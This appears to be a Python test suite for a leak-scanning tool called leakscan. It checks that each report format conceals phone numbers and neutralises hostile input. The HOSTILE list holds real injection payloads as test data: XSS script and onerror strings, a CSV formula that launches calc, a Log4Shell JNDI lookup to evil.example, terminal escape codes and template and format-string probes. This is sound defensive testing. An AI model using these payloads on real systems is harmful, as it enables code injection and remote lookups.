"""Hostile captures through every format: no seeded number is seen raw, and nothing in the text is alive.

Every row of FORMATS is tested, so a new format is, too. What "alive" means is written down for each in ALIVE.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from importlib import resources
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from leakscan.baseline import Baseline
from leakscan.conceal import Concealer
from leakscan.errors import UsageError
from leakscan.fingerprint import fingerprint
from leakscan.formats import FORMATS, Look
from leakscan.gate import Rules, judge
from leakscan.model import Carrier, Leak, Recipient
from leakscan.output import parse_output
from leakscan.show import show
from leakscan.summary import Summary
from tests.leaks import DAY_NS, KEY, START_NS, add, leak, run

HOSTILE = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\u202egnirts\u2066",
    "\u200b\ufeff\u00ad",
    "a[/b]c [bold red]x[/] [link=http://evil.example]y[/link]",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "&lt;script&gt;",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "a\nb\r\nc | d | e\n\n# heading",
    "](http://evil.example) ![x](http://evil.example/x.png) <http://evil.example>",
    "http://evil.example www.evil.example @someone #1",
    "`code` *bold* _under_ ~~gone~~ $x^2$ \\",
    '"quoted", "cells"\n"new row"',
    "\x00\x7f\x80\ud800\uffff\U0010ffff",
    ":smile: {{7*7}} ${jndi:ldap://evil.example} %s %n {0}",
    "9" * 5000,
    "x" * 5000,
    "²³¹",
    "",
    " ",
]
NUMBERS = [f"447700900{number}" for number in range(100, 110)]
CONCEALER = Concealer(KEY)

texts = st.sampled_from(HOSTILE) | st.text(st.characters(), max_size=20)


def rendered(name: str, leaks: list[Leak], look: Look, encoding: str = "utf-8", **changes: Any) -> str:
    """What format `name` writes of a whole result."""
    buffer = io.BytesIO()
    stream = io.TextIOWrapper(buffer, encoding=encoding, newline="")
    writer = FORMATS[name](stream, look)
    writer.begin(run(**changes))
    summary = Summary()
    for day, one in enumerate(leaks):
        add(summary, one, START_NS + day * DAY_NS)
        summary.explain(one.rule, one.rule)
        writer.leak(one)
    rules = Rules(baseline=Baseline({}), baseline_name=HOSTILE[0])  # so that what counts is shown, too
    writer.end(judge(summary.to_dict(), rules))
    stream.flush()
    return buffer.getvalue().decode(encoding)


def concealed(number: str, dirt: str, value: str) -> Leak:
    """A leak as the spine makes it of a message that has the number in every place, with dirt around it."""
    raw = f"{dirt}{number}{dirt}"
    spans = (value, number)
    return leak(
        number,
        client=CONCEALER.client("10.0.0.1"),
        host=CONCEALER.redact(f"{raw}.example".lower(), spans),
        method=CONCEALER.redact(raw, spans),
        target=CONCEALER.redact(f"/{raw}/{value}/{number}.jpg", spans),
        name=CONCEALER.redact(raw, spans),
        value=CONCEALER.value("msisdn", value),
        pseudonym=CONCEALER.pseudonym("msisdn", number),
    )


looks = st.builds(Look, live=st.booleans(), color=st.just(False), width=st.sampled_from([1, 80, 500]))


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(list(FORMATS)), looks, st.sampled_from(NUMBERS), texts, st.booleans())
def test_no_number_is_seen(name: str, look: Look, number: str, dirt: str, dirty_value: bool) -> None:
    value = f"{dirt}{number}" if dirty_value else number
    text = rendered(name, [concealed(number, dirt, value)], look)
    assert number not in text
    assert number not in re.sub(r"[^0-9]", "", text)


def alive_characters(text: str) -> list[str]:
    """Characters that a terminal would obey or that hide others; newlines are the format's own."""
    return [char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co", "Cn"}]


def alive_markdown(text: str) -> list[str]:
    """Everything a reader would make of it that leakscan did not mean."""
    meant = {
        "heading",
        "paragraph",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "text",
        "inline",
        "fence",
        "softbreak",
    }
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    found = []
    for token in reader.parse(text):
        kinds = [token.type, *(child.type for child in token.children or [])]
        found += [kind for kind in kinds if re.sub(r"_(open|close)$", "", kind) not in meant | {"text_special"}]
    found += re.findall(r"(?<!\\)[@#](?=\w)|(?<![\w\\])https?://|www\.\w", text)
    return found


def alive_csv(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


def alive_json(text: str) -> list[str]:
    return [char for char in text if not (char == "\n" or " " <= char <= "~")]


class Page(HTMLParser):
    """What a browser would find in a page: its elements, with their attributes, and what stands in script and style."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str]] = []
        self.code: list[str] = []
        self._drawing = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._drawing = tag == "svg" or (self._drawing and tag in DRAWN)
        self.tags["tooltip" if self._drawing and tag == "title" else tag] += 1
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        if self.cdata_elem:
            self.code.append(data)

    def handle_comment(self, data: str) -> None:
        self.tags["comment"] += 1

    def handle_pi(self, data: str) -> None:
        self.tags["instruction"] += 1


MEANT = (
    "html head meta title style body a header h1 h2 h3 div strong p dl dt dd nav ul li main section figure figcaption svg "
    "tooltip desc rect line text g span details summary table thead tbody tr th td article code label input footer "
    "script button"
)
DRAWN = {"title", "desc", "text", "g", "rect", "line"}


def alive_html(text: str) -> list[str]:
    """Elements and attributes that the template does not have, links that lead out, code that is not leakscan's."""
    page = Page(text)
    found = [tag for tag in page.tags if tag not in MEANT.split()]
    found += [tag for tag in ("html", "head", "title", "style", "script", "body") if page.tags[tag] not in (0, 1)]
    found += [
        name for name, _ in page.attributes if name.startswith("on") or name in ("style", "src", "srcdoc", "ping")
    ]
    found += [value for name, value in page.attributes if name in ("href", "xlink:href") and not value.startswith("#")]
    templates = resources.files("leakscan.formats") / "templates"
    own = "".join((templates / name).read_text("utf-8") for name in ("report.css", "report.js"))
    return found + [code for code in page.code if code not in own]


def alive_sarif(text: str) -> list[str]:
    """Links that leakscan did not mean, and places that are no relative URI (RFC 3986 section 4.2)."""
    found = alive_json(text)
    (run,) = json.loads(text)["runs"]
    notes = run["invocations"][0]["toolExecutionNotifications"]
    for one in [*run["results"], *notes]:
        found += re.findall(r"(?<!\\)[\[\]]", one["message"]["text"].replace("\\\\", ""))
        uris = [place["physicalLocation"]["artifactLocation"]["uri"] for place in one.get("locations", [])]
        found += [uri for uri in uris if not re.fullmatch(r"(?:[A-Za-z0-9._~/-]|%[0-9A-F]{2})+", uri)]
        found += [uri for uri in uris if uri.startswith("/") or ".." in uri.split("/")]
    return found + [char for value in strings(json.loads(text)) for char in alive_characters(value)]


def strings(value: Any) -> Iterator[str]:
    """All text in a JSON value."""
    if isinstance(value, str):
        yield value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from strings(inner)


def alive_junit(text: str) -> list[str]:
    meant = {"testsuites", "testsuite", "testcase", "failure", "error", "skipped", "system-out"}
    found = alive_json(text)
    for element in ElementTree.fromstring(text).iter():
        found += [element.tag] if element.tag not in meant else []
        found += sorted(set(element.attrib) - {*COUNTS, "name", "classname", "message", "time"})
        found += [char for value in (*element.attrib.values(), element.text or "") for char in alive_characters(value)]
    return found


def alive_github(text: str) -> list[str]:
    """Every line is one command of ours: nothing else begins, and no property ends early."""
    command = re.compile(r"::(?:error|warning|notice) (?:file=[^:,\s]*,)?title=[^:,\r\n]*::[^\r\n]*")
    return [line for line in text.splitlines() if not command.fullmatch(line)]


COUNTS = ("tests", "failures", "errors", "skipped")

#: What must not be found in the text of each format, beside characters that are alive.
ALIVE: dict[str, Callable[[str], list[str]]] = {
    "table": lambda text: [],
    "jsonl": alive_json,
    "json": alive_json,
    "csv": alive_csv,
    "markdown": alive_markdown,
    "html": alive_html,
    "incident": alive_markdown,
    "sarif": alive_sarif,
    "junit": alive_junit,
    "github": alive_github,
}


def test_every_format_is_tested() -> None:
    assert ALIVE.keys() == FORMATS.keys()


def dirty(text: str) -> Leak:
    """A leak with the text in every field that is text; values are shown, so nothing was taken out of it."""
    party = Carrier(text, text, text, text, (text,))
    return leak(
        **dict.fromkeys(
            ("capture", "client", "server", "host", "method", "target", "place", "name", "rule", "value", "time"), text
        ),
        network=party,
        home_operator=party,
        evidence=(text, text),
        encoding=(text,),
        recipient=Recipient(text, text, text),
    )


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(list(FORMATS)), looks, texts)
def test_nothing_is_alive(name: str, look: Look, text: str) -> None:
    shown = rendered(name, [dirty(text), leak()], look, captures=[{"name": text, "size": 1}], settings={text: text})
    assert alive_characters(shown) == []
    assert ALIVE[name](shown) == []


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "latin-1"])
def test_hostile_text_breaks_no_stream(name: str, text: str, encoding: str) -> None:
    shown = rendered(name, [dirty(text)], Look(live=True), encoding)
    assert alive_characters(shown) == []
    assert ALIVE[name](shown) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_job_summary_is_markdown_and_nothing_else(text: str) -> None:
    aside = io.StringIO()
    rendered("github", [dirty(text), leak()], Look(aside=aside), captures=[{"name": text, "size": 1}])
    assert aside.getvalue().startswith("## leakscan: leak")
    assert alive_characters(aside.getvalue()) == alive_markdown(aside.getvalue()) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_programs_get_the_text_back(text: str) -> None:
    lines = rendered("jsonl", [dirty(text)], Look()).splitlines()
    assert json.loads(lines[1])["name"] == text
    assert json.loads(rendered("json", [dirty(text)], Look()))["leaks"][0]["name"] == text
    rows = list(csv.DictReader(io.StringIO(rendered("csv", [dirty(text)], Look()))))
    assert rows[0]["name"].removeprefix("'") == show(text)


def test_alive_is_seen_when_it_is_there() -> None:
    """The tests above can fail."""
    assert alive_characters("\x1b")
    assert alive_json("é")
    assert alive_csv("a,=b\n")
    assert alive_junit("<testsuites><script/></testsuites>")
    assert alive_github("::error title=a,file=b::c\n")
    assert alive_github("::error title=a::b\n::set-env name=c::d\n")
    for text in ("<b>x</b>", "[a](http://b)", "*a*", "`a`", "see @me", "http://a.example", "www.a.example", "~~a~~"):
        assert alive_markdown(text), text
    for text in (
        "<img src=x>",
        "<b>x</b>",
        "<p onclick='x'>",
        "<a href='http://a.example'>",
        "<script>alert(1)</script>",
        "<style>*{}</style>",
        "<!-- x -->",
        "<title>a</title><title>b</title>",
        "<svg/onload=alert(1)>",
    ):
        assert alive_html(text), text


@pytest.mark.parametrize("text", HOSTILE)
def test_error_messages_are_harmless_once_shown(text: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse_output(f"{text}.nothing")
    assert alive_characters(show(str(caught.value))) == []


def test_fingerprints_name_nobody() -> None:
    assert len({fingerprint("r", "query", f"u{number}", f"{number}.example") for number in NUMBERS}) == 1
